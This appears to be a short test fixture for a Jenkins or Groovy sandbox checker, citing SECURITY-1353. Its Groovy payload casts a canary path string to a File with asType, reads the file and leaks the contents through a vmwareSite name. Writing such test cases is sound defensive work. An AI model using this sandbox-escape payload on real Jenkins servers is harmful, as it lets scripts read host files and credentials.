// class: cast
// source: Jenkins SECURITY-1353 (asType called as a method)
// expect: read
// DGM String.asType(Class) builds a File for File.class.
def f = '@CANARY_READ@'.asType(File)
def v = f.text
vmwareSite("leak-${v}") { network 'VM Network' }
